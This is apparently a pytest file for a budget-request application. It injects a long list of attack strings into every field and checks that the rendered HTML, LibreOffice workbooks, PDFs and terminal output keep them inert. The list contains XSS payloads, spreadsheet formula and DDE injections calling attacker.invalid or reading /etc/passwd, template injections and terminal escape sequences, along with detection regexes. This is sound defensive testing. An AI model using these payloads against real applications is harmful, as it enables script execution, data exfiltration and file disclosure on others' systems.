"""Text that attacks, in every field of a request, through every face: nothing of it is live in Chromium, LibreOffice or a terminal.

Chromium reads the pages without their own protection (the policy in their head is taken out), so that the escaping alone stands.
``ATTACKS=1`` puts every attack into every field; the plain run puts each into some.
"""

from __future__ import annotations

import json
import os
import re
import subprocess
import unicodedata
from collections.abc import Iterator
from itertools import count
from pathlib import Path
from typing import Any, Final

import msgspec
import pytest
from lxml import etree

import main
from main import STANDARD_FOLDER
from model.differences.differences import compare
from model.document import storage
from model.request.grounds import Cut, FundingTerm
from model.request.multi_year import Commitment, CommitmentYear
from model.request.request import Assessment, CostGroup, Line, Request, Section
from templates.comparison.comparison_file import page_bytes
from templates.comparison.comparison_table import ComparisonTable
from templates.comparison.comparison_workbook import workbook_bytes
from templates.page import html
from templates.paper.blocks import PARTS
from templates.paper.layout import paper
from templates.paper.press import Press
from templates.workbook import excel
from tests.samples import sample, snapshot, standard
from tests.templates.chromium import CHROMIUM
from tests.templates.excel_reader.libreoffice import converted, needs_libreoffice
from tests.templates.paper.printed import Printed

CALL: Final = (
    "top.postMessage(/live/.source,String.fromCharCode(42))"  # without quotes, which some attacks are made of
)
ATTACKS: Final = (
    *(f"<script>{CALL}</script>", f"</script><script>{CALL}</script>", f"</template><script>{CALL}</script>"),
    *(f"</style><script>{CALL}</script>", f"</title><script>{CALL}</script>", f"</textarea><script>{CALL}</script>"),
    *(f"--><script>{CALL}</script><!--", f"]]><script>{CALL}</script><![CDATA[", f"<!--><script>{CALL}</script>"),
    *(f'"><img src=x onerror="{CALL}">', f"'><svg/onload={CALL}>", f"` onerror={CALL} ", f"<details open ontoggle={CALL}>"),
    *(f'" autofocus onfocus="{CALL}" x="', f"' onmouseover='{CALL}' x='", f"x onload={CALL}", f"<math><mi xlink:href='javascript:{CALL}'>"),
    *(f"<iframe srcdoc='<script>{CALL}</script>'>", f"<iframe src=javascript:{CALL}>", f"<object data=javascript:{CALL}>"),
    *(f"<a href='javascript:{CALL}' ping=http://attacker.invalid/>x</a>", f"javascript:{CALL}", "<form action=http://attacker.invalid/><input>"),
    *("<base href=http://attacker.invalid/>", "<meta http-equiv=refresh content='0;url=http://attacker.invalid/'>", "<link rel=stylesheet href=//attacker.invalid/>"),
    *(f"&lt;script&gt;{CALL}&lt;/script&gt;", f"&#60;script&#62;{CALL}", f"\\u003cscript\\u003e{CALL}", f"<scr\x00ipt>{CALL}</script>"),
    *("{{ 7 * 7 }}", "{% for x in (1,) %}{{ x }}{% endfor %}", "{# x #}", "${7*7}", "<%= 7*7 %>", "</template>", "<!--", "-->", "]]>", "&amp;&quot;&#0;"),
    *("=cmd|'/C calc'!A0", "=1+1", "+1+1", "-2+3", "@SUM(1,1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "'=1+1", "＝1+1", "{=1+1}"),
    *('=HYPERLINK("http://attacker.invalid/","x")', '+HYPERLINK("http://attacker.invalid/")', '=DDE("soffice";"/etc/passwd";"A1")'),
    *('=WEBSERVICE("http://attacker.invalid/")', "='file:///etc/passwd'#$Sheet1.A1", '=IMPORTXML("http://attacker.invalid/";"//a")'),
    *("http://attacker.invalid/", "file:///etc/passwd", "\\\\attacker.invalid\\share\\x", "mailto:a@attacker.invalid", "a@attacker.invalid"),
    *("\x1b[31m赤\x1b[2J", "\x1b]0;題名\x07", "\x1b]8;;http://attacker.invalid/\x1b\\x", "\x9b31m", "\x90x\x9c", "\x07\x08\x7f"),
    *("旅\u202e費abc\u202c", "\u2066\u2067\u2069", "a\u200b\u200d\u2060\ufeffb", "\u2028\u2029", "\x00", "_x003D_1+1", "あ" * 20_000, "x" * 20_000),
)  # fmt: skip
LIVE_TAGS: Final = (
    "script",
    "img",
    "svg",
    "math",
    "iframe",
    "object",
    "embed",
    "form",
    "input",
    "base",
    "link",
    "video",
    "details",
    "textarea",
)
JOINER: Final = "\u200d"
"""Belongs to the emoji before it, and is left alone."""
WANTED: Final = os.environ.get("ATTACKS", "")
_OURS: Final = frozenset(
    {
        "id",
        "frame",
        "section",
        "line",
        "source",
        "place",
        "rule",
        "kind",
        "standard",
        "fiscal_year",
        "year",
        "status",
    }
)
"""Fields that name something of ours: another word there is no request, or one of another form."""


def with_everything() -> Request:
    """The real sheet with a row of each kind."""
    years = (CommitmentYear("o", year="令和2年度"),)
    return msgspec.structs.replace(
        sample(),
        groups=(*sample().groups, CostGroup("g9", "表", "注", lines=(Line("l9", "行", "x", "y", "備考", "1円×2円"),))),
        sections=(*sample().sections, Section("s9", heading="題", text="文")),
        commitments=(*sample().commitments, Commitment("c9", "x", "x", name="名", contract_period="x", set_in="x", note="x", years=years)),
        funding_terms=(FundingTerm("t9", "national", "名", "1/2"),),
        cuts=(Cut("u9", "l9", 5, "理由"),),
        assessment=Assessment("計上", 5, comment="査定"),
    )  # fmt: skip


def attacked(turn: int) -> Request:
    """That request with an attack in every field of text; with another turn each field has another one."""
    numbers = count(turn)

    def walk(value: Any, name: str) -> Any:
        match value:
            case str() if name not in _OURS:
                attack = ATTACKS[next(numbers) % len(ATTACKS)]
                # 「=1+1」 in the field of calculations is one, which the workbook computes as the program does.
                return ATTACKS[0] if name.endswith("basis") and re.search(r"1\+1|2\+3", attack) else attack
            case tuple():
                return tuple(walk(part, name) for part in value)
            case msgspec.Struct():
                fields = {field: walk(getattr(value, field), field) for field in value.__struct_fields__}
                return msgspec.structs.replace(value, **fields)
            case dict():
                return {key: walk(part, name) for key, part in value.items()}
        return value

    whole: Request = walk(with_everything(), "")
    return storage.loads(storage.dumps(whole), "x")


def turns() -> range:
    """As many requests as there are attacks, or some of them."""
    return range(0, len(ATTACKS), 1 if WANTED else len(ATTACKS) // 2 + 1)


@pytest.fixture(scope="module")
def requests() -> list[Request]:
    """The requests."""
    return [attacked(turn) for turn in turns()]


def groups(requests: list[Request]) -> Iterator[list[tuple[int, Request]]]:
    """The requests with their numbers, as many as a program opens at a time."""
    numbered = list(enumerate(requests))
    yield from (numbered[first : first + 4] for first in range(0, len(numbered), 4))


def comparison(number: int, request: Request) -> ComparisonTable:
    """What such a request differs in from the one without attacks, both with names that attack."""
    names = (ATTACKS[(number + step) % len(ATTACKS)] for step in (0, 1))
    return ComparisonTable(*names, compare(with_everything(), request, standard()))


def test_every_attack_stands_somewhere(requests: list[Request]) -> None:
    """What is tried below is there: no field refuses a text, and between them the requests hold each attack."""
    held = "\n".join(str(msgspec.to_builtins(request)) for request in requests)
    assert [attack for attack in ATTACKS if repr(attack)[1:-1] not in held and attack not in held] == []


_LOOK: Final = """<!DOCTYPE html><meta charset="utf-8"><body><pre id="found"></pre><script>
const found = {};
const note = (frame, words) => (found[frame.name] ??= []).push(words);
const frames = () => [...document.querySelectorAll("iframe")];
addEventListener("message", event => note(frames().find(frame => frame.contentWindow === event.source) ?? self, "ran: " + event.data));
addEventListener("load", () => setTimeout(() => {
  for (const frame of frames()) {
    const inside = frame.contentDocument;
    if (!inside?.body || !inside.title) { note(frame, "not read"); continue; }
    const inert = [...inside.querySelectorAll("template")].map(template => template.content);
    for (const part of [inside, ...inert]) for (const element of part.querySelectorAll("*")) {
      const tag = element.localName;
      if (%s.includes(tag) && !element.matches("figure.picture > svg[role=img]") || tag === "meta" && element.httpEquiv) note(frame, "tag: " + element.outerHTML.slice(0, 80));
      for (const { name, value } of element.attributes) {
        if (name.startsWith("on") || name === "ping" || name === "srcdoc") note(frame, "attribute: " + name);
        if (/^(xlink:)?href$|^src$|action$|^data$/.test(name) && !/^(#|tel:[0-9]+$|mailto:[\\w.%%+-]+@[\\w.-]+$)/.test(value)) note(frame, "link: " + value);
      }
    }
  }
  document.getElementById("found").textContent = JSON.stringify(found);
}, 1500));
</script>%s"""


def looked_at(pages: dict[str, bytes], folder: Path) -> dict[str, list[str]]:
    """What is live in pages, as Chromium has them: what ran, elements and attributes that could run, links."""
    assert CHROMIUM is not None
    for name, page in pages.items():
        bare = re.sub(rb'<meta http-equiv="Content-Security-Policy"[^>]*>', b"", page)
        (folder / name).write_bytes(bare)
    frames = "".join(f'<iframe name="{name}" src="{name}"></iframe>' for name in pages)
    (folder / "look.html").write_text(_LOOK % (json.dumps(LIVE_TAGS), frames), encoding="utf-8")
    done = subprocess.run(
        [
            CHROMIUM, "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking",
            "--disable-component-update", "--disable-sync", f"--user-data-dir={folder / 'profile'}", "--allow-file-access-from-files",
            "--disable-web-security", "--virtual-time-budget=20000", "--dump-dom", (folder / "look.html").as_uri(),
        ],
        capture_output=True, timeout=170, check=True,
    )  # fmt: skip
    found: dict[str, list[str]] = json.loads(
        etree.HTML(done.stdout.decode("utf-8", "replace")).xpath("string(//pre[@id='found'])")
    )
    return found


@pytest.mark.skipif(CHROMIUM is None, reason="Chromium is not installed")
def test_nothing_is_live_in_chromium(requests: list[Request], tmp_path: Path) -> None:
    """The published page and the printable comparison, without their policy: no script runs, nothing typed is an element, an event or a link.

    A page in which one attack is live is found, so the others would be.
    """
    live = f"<title>x</title><body>{ATTACKS[0]}<p onclick='x'><a href='http://attacker.invalid/'>x</a>"
    for some in groups(requests):
        pages = {"live.html": live.encode()}
        for number, request in some:
            pages[f"page-{number}.html"] = html.render(snapshot(request), STANDARD_FOLDER).encode()
            pages[f"comparison-{number}.html"] = page_bytes(comparison(number, request))
        found = looked_at(pages, tmp_path)
        assert {word.split(":")[0] for word in found.pop("live.html")} == {"ran", "tag", "attribute", "link"}
        assert found == {}


def formulas(path: Path) -> Iterator[str]:
    """What LibreOffice computes, follows or asks another program for in a workbook."""
    for element in etree.parse(path, etree.XMLParser(huge_tree=True)).iter():
        tag = etree.QName(element).localname if isinstance(element.tag, str) else ""
        if tag in (
            "a",
            "dde-link",
            "dde-source",
            "event-listener",
            "cell-range-source",
            "table-source",
        ):
            yield f"{tag}: {dict(element.attrib)}"
        for name, value in element.attrib.items():
            if etree.QName(name).localname == "formula":
                yield value


_ATTACK: Final = re.compile(
    r"attacker|cmd|HYPERLINK|WEBSERVICE|DDE|IMPORT|file:|1\+1|2\+3|SUM\(1|^(?!of:=)", re.IGNORECASE
)


@needs_libreoffice
def test_nothing_is_live_in_libreoffice(requests: list[Request], tmp_path: Path) -> None:
    """The finance division's workbook and that of the comparison: no text is a formula, a link, or a question to another program."""
    (tmp_path / "control.csv").write_text(
        '=1+1,"=HYPERLINK(""http://attacker.invalid/"",""x"")"\n', encoding="utf-8"
    )
    for some in groups(requests):
        books = [tmp_path / "control.csv"]
        for number, request in some:
            for name, data in (
                ("book", excel.workbook_bytes(snapshot(request))),
                ("comparison", workbook_bytes(comparison(number, request))),
            ):
                books.append(tmp_path / f"{name}-{number}.xlsx")
                books[-1].write_bytes(data)
        control, *opened = converted(books, "fods", tmp_path / "out")
        assert any(_ATTACK.search(formula) for formula in formulas(control))
        found = {
            path.name: [formula for formula in formulas(path) if _ATTACK.search(formula)] for path in opened
        }
        assert found == {path.name: [] for path in opened}
        assert any(True for path in opened for _ in formulas(path)), "the workbook's own sums are there"


def test_nothing_is_live_in_a_pdf(requests: list[Request]) -> None:
    """The paper with all its parts: every attack can be set, and no text is a link, an action, a script or a file."""
    press = Press(STANDARD_FOLDER)
    for request in requests:
        pdf = Printed(press.pdf(paper(snapshot(request), PARTS)))
        assert [link for page in pdf.file for link in page.get_links()] == []
        assert [note for page in pdf.file for note in page.annots()] == []
        assert pdf.file.embfile_count() == 0
        assert not re.search(r"/(OpenAction|AA|Names|AcroForm)\b", pdf.catalogue)


def test_nothing_reaches_a_terminal(
    requests: list[Request], tmp_path: Path, capfd: pytest.CaptureFixture[str]
) -> None:
    """What check and compare print, as text and as JSON, for people and programs, holds no control, no change of direction, nothing unseen."""
    storage.save(with_everything(), tmp_path / "before.yosan")
    for number, request in enumerate(requests):
        storage.save(request, tmp_path / f"{number}.yosan")
        for words in (
            ["check", tmp_path / f"{number}.yosan"],
            ["compare", tmp_path / "before.yosan", tmp_path / f"{number}.yosan"],
        ):
            for more in ([], ["--json"]):
                main.run([*map(str, words), *more])
                said = capfd.readouterr()
                if more:
                    assert json.loads(said.out)
                unseen = {
                    f"U+{ord(character):04X}"
                    for character in said.out + said.err
                    if character not in ("\n", JOINER)
                    and unicodedata.category(character) in ("Cc", "Cf", "Zl", "Zp")
                }
                assert unseen == set(), (words[0], more)
